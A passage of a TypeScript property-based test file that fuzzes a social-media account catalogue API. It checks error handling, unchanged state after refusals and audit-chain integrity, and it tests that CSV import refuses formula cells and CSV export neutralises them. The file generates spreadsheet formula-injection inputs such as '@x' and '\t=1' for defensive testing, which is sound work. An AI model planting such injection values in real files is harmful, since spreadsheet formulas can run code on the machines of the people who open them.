      .flatMap(item => Object.keys(item))
      .filter(m => ['post', 'put', 'patch', 'delete'].includes(m)).length;
    expect(OPERATIONS).toHaveLength(counted);
    const update = OPERATIONS.find(op => op.operationId === 'updateService')!;
    expect(update.pathParameters.map(p => p.name)).toEqual(['id']);
    expect(update.body?.schema.required).toEqual(
      expect.arrayContaining(['name', 'version']),
    );
    expect(update.body?.schema.properties?.controls?.properties).toHaveProperty(
      'mfaEnabled',
    );
  });
});

describe.each(ids)('fuzzing every write endpoint on %s', databaseId => {
  const total =
    CASES[databaseId.startsWith('POSTGRES') ? 'POSTGRES' : databaseId];
  const perOperation = casesPerOperation(total);
  let harness: Awaited<ReturnType<typeof startHarness>>;
  let ran = 0;
  let started = Date.now();
  /** Answers seen: refusals, refusals that named the one bad field, successes. */
  const seen = { refused: 0, named: 0, accepted: 0 };

  afterAll(() => harness?.keepAlive.destroy());

  beforeAll(async () => {
    harness = await startHarness(databaseId);
    started = Date.now();
    const unseeded = OPERATIONS.filter(op => op.body && !SEEDS[op.operationId]);
    // eslint-disable-next-line no-console
    console.log(
      `${
        unseeded.length
          ? `No valid body known for ${unseeded
              .map(op => op.operationId)
              .join(', ')}: fuzzed from the schema alone (add one to SEEDS). `
          : ''
      }Fuzzing the write endpoints on ${databaseId}: ${[
        ...perOperation.values(),
      ].reduce(
        (a, b) => a + b,
        0,
      )} cases, seed ${SEED} (SOCIAL_MEDIA_FUZZ_SEED changes it)`,
    );
  });

  afterAll(() => {
    // eslint-disable-next-line no-console
    console.log(
      `Fuzzed ${ran} cases on ${databaseId} in ${(
        (Date.now() - started) /
        1000
      ).toFixed(1)} s (seed ${SEED}): ${seen.refused} refused (${
        seen.named
      } naming the one bad field), ${seen.accepted} accepted`,
    );
  });

  it.each(OPERATIONS.map((op, index) => [op.operationId, op, index] as const))(
    '%s: no 5xx, refusals name the field and change nothing',
    async (_name, op, index) => {
      const { port, keepAlive, call, store, fixtures } = harness;
      fixtures.changed(ALL_PARTS);
      await fixtures.fresh(ALL_PARTS);
      let cheap = await store.cheap();
      // The digest of every row the refusals since it are checked against; none while a
      // success may have changed the store since.
      let full: string | undefined = await store.full();
      let baselineAt = ran;
      let refusedSinceFull: FuzzCase[] = [];
      let namedHere = 0;
      const checkFull = async () => {
        if (full === undefined || refusedSinceFull.length === 0) return;
        const now = await store.full();
        if (now !== full) {
          const before = new Set(full.split('\n'));
          const changed = now
            .split('\n')
            .filter(line => !before.has(line))
            .map(line => line.split(' ')[0]);
          throw new Error(
            `The store (${changed.join(
              ', ',
            )}) changed after these refused requests:\n${refusedSinceFull
              .map(
                c =>
                  `  ${c.kind}: ${c.method} ${excerpt(c.url, 120)} ${excerpt(
                    c.body?.text,
                    200,
                  )}`,
              )
              .join('\n')}`,
          );
        }
        refusedSinceFull = [];
      };
      await fc.assert(
        fc.asyncProperty(fc.gen(), async g => {
          if (await fixtures.fresh(fixturesUsedBy(op))) {
            // Making fixtures writes: the baselines start again.
            cheap = await store.cheap();
            full = undefined;
            refusedSinceFull = [];
          }
          const c = buildCase(g, op, fixtures);
          const sentAt = Date.now();
          const res = await send(port, keepAlive, c);
          const took = Date.now() - sentAt;
          ran += 1;
          const problems = problemsWith(c, res);
          if (res.status >= 400) seen.refused += 1;
          else seen.accepted += 1;
          if ((c.badField || c.unknownKey) && !problems.length) {
            seen.named += 1;
            namedHere += 1;
          }
          if (took > SLOW_ANSWER_MS) {
            problems.push(`took ${took} ms to answer`);
          }
          const after = await store.cheap();
          if (res.status >= 400) {
            if (after !== cheap) {
              problems.push(
                `the refused request changed the store:\n    before ${cheap}\n    after  ${after}`,
              );
            } else if (full !== undefined) {
              refusedSinceFull.push(c);
              if (refusedSinceFull.length >= FULL_CHECK_BATCH)
                await checkFull();
            } else if (ran - baselineAt >= FULL_CHECK_BATCH) {
              // What this refusal left is the next baseline (it had the cheap check).
              full = await store.full();
              baselineAt = ran;
            }
          } else {
            // What a success changed hides what the refusals before it may have changed:
            // those had the cheap check only.
            refusedSinceFull = [];
            full = undefined;
            if (after !== cheap) {
              fixtures.changed(fixturesChangedBy(op));
              cheap = after;
            }
          }
          if (problems.length) {
            throw new Error(
              `${c.kind}: ${c.method.toUpperCase()} ${excerpt(
                c.url,
                200,
              )}\n  body: ${excerpt(c.body?.text)}\n  answer ${
                res.status
              }: ${excerpt(res.text)}\n  - ${problems.join('\n  - ')}`,
            );
          }
        }),
        {
          seed: SEED + index,
          numRuns: perOperation.get(op.operationId)!,
          endOnFailure: true,
        },
      );
      await checkFull();
      // The cases did break bodies in ways the answer had to name.
      expect({ body: !!op.body, named: namedHere > 0 }).not.toEqual({
        body: true,
        named: false,
      });
      // Entries change in place only by breaking the chain, which the check would see.
      const verified = await call('get', '/audit/verify');
      expect(verified.body).toMatchObject({ intact: true });
    },
  );

  it('CSV import: formula cells are refused by row and field, other cells kept as written', async () => {
    const { call, store } = harness;
    // Where each column's value ends up, as the import report names it.
    const FIELD: Record<string, string> = {
      name: 'name',
      handle: 'handle',
      purpose: 'purpose',
      businessUnit: 'businessUnit',
      itsmReference: 'itsm.reference',
      credentialVaultRef: 'controls.credentialVaultRef',
    };
    const formula = fc
      .tuple(
        fc.constantFrom('', ' ', '\t', '\r', '  \t'),
        fc.oneof(
          fc.constantFrom(...FORMULAS),
          fc
            .tuple(
              fc.constantFrom('+', '-', '@'),
              // Signed, a formula runs code only when it calls something.
              fc.constantFrom(...FORMULAS.filter(f => /[(|]/.test(f))),
            )
            .map(([sign, f]) => `${sign}${f.slice(1)}`),
        ),
      )
      .map(([lead, f]) => ({ text: `${lead}${f}`, formula: true }));
    const other = oddText()
      .filter(t => !/^\s*[=+\-@]/.test(t))
      .map(text => ({ text, formula: false }));
    await fc.assert(
      fc.asyncProperty(
        fc.dictionary(
          fc.constantFrom(...Object.keys(FIELD)),
          fc.oneof(formula, other),
          { minKeys: 1, maxKeys: 3 },
        ),
        fc.boolean(),
        async (cells, dryRun) => {
          const n = unique();
          const row: Record<string, string> = {
            name: `Fuzz Sheet ${n}`,
            platform: 'other',
            handle: `fuzz-sheet-${n}`,
            purpose: 'Employer brand',
            businessUnit: 'Human Resources',
            ownerGroup: 'group:default/marketing',
            itsmSystem: 'servicenow',
            itsmReference: `Sheet ${n}`,
            credentialVaultRef: `vault://social/sheet-${n}`,
            ...Object.fromEntries(
              Object.entries(cells).map(([k, v]) => [k, v.text]),
            ),
          };
          const content = stringify([Object.keys(row), Object.values(row)]);
          const before = await store.cheap();
          const res = await call('post', '/import', {
            format: 'csv',
            content,
            dryRun,
          });
          ran += 1;
          const problems: string[] = [];
          if (res.status >= 500) problems.push(`answered ${res.status}`);
          problems.push(...leaksIn(res.text, content).map(l => `shows ${l}`));
          const formulas = Object.entries(cells).filter(([, v]) => v.formula);
          if (Object.values(cells).some(v => unstorable(v.text))) {
            // Text no database stores as sent: refused before the file is read.
            const fields = res.body.error?.fields?.map((f: Json) => f.field);
            if (res.status !== 400 || fields?.join() !== 'content') {
              problems.push('unstorable text is not refused naming content');
            }
          } else if (formulas.length) {
            const named = (res.body.problems ?? []).map(
              (p: Json) => `${p.row}:${p.field}`,
            );
            if (res.status !== 400) problems.push('formulas were imported');
            for (const [column] of formulas) {
              if (!named.includes(`2:${FIELD[column]}`)) {
                problems.push(`the report does not name ${FIELD[column]}`);
              }
            }
          }
          if (res.status >= 400 || dryRun) {
            if ((await store.cheap()) !== before) {
              problems.push('a refused or dry-run import changed the store');
            }
          } else {
            // Kept as written (trimmed), never evaluated or rewritten.
            const [id] = res.body.created;
            const stored = (await call('get', `/services/${id}`)).body;
            const valueOf = (column: string) => {
              if (column === 'itsmReference') return stored.itsm?.reference;
              if (column === 'credentialVaultRef') {
                return stored.controls.credentialVaultRef;
              }
              return stored[column];
            };
            for (const [column, { text }] of Object.entries(cells)) {
              if (valueOf(column) !== (text.trim() || undefined)) {
                problems.push(`${column} was stored as ${valueOf(column)}`);
              }
            }
          }
          expect({ status: res.status, problems }).toEqual({
            status: res.status,
            problems: [],
          });
        },
      ),
      { seed: SEED, numRuns: 150, endOnFailure: true },
    );
  });

  it('CSV export of the audit trail: no cell starts a formula, whatever the catalogue holds or the filter says', async () => {
    const { call } = harness;
    const hostile = fc.oneof(
      fc.constantFrom(...FORMULAS),
      fc.constantFrom('+1', '-1', '@x', '\t=1', '\r=1', "'=1", ',=1+1'),
      oddText(),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.tuple(hostile, hostile, hostile),
        fc.tuple(hostile, hostile, hostile),
        async ([name, purpose, businessUnit], [actor, serviceId, action]) => {
          const created = await call('post', '/services', {
            ...newServiceBody(unique()),
            platform: 'other',
            profileUrl: undefined,
            name,
            purpose,
            businessUnit,
          });
          ran += 1;
          const statuses = [created.status];
          const formulaCells: string[] = [];
          const exports = [
            `format=csv&actor=${encodeURIComponentSafely(
              actor,
            )}&serviceId=${encodeURIComponentSafely(
              serviceId,
            )}&action=${encodeURIComponentSafely(action)}`,
            ...(created.status === 201
              ? [`format=csv&serviceId=${created.body.id}`]
              : []),
          ];
          for (const query of exports) {
            const res = await call('get', `/audit/export?${query}`);
            ran += 1;
            statuses.push(res.status);
            const lines = res.status === 200 ? res.text.split('\n') : [];
            const [header = '', ...rest] = lines.filter(Boolean);
            // The header is JSON a spreadsheet may split at its commas.
            const headerCells = header
              .split(',')
              .flatMap(cell => [cell, cell.replace(/^"/, '')]);
            const entryCells = rest
              .filter(line => !line.startsWith('#'))
              .flatMap(line => parseCsv(line, { relax_column_count: true })[0]);
            formulaCells.push(
              ...[...headerCells, ...entryCells].filter(cell =>
                FORMULA_START.test(cell),
              ),
            );
          }
          expect(statuses.filter(status => status >= 500)).toEqual([]);
          expect(formulaCells).toEqual([]);
        },
      ),
      { seed: SEED, numRuns: 60, endOnFailure: true },
    );
  });
});
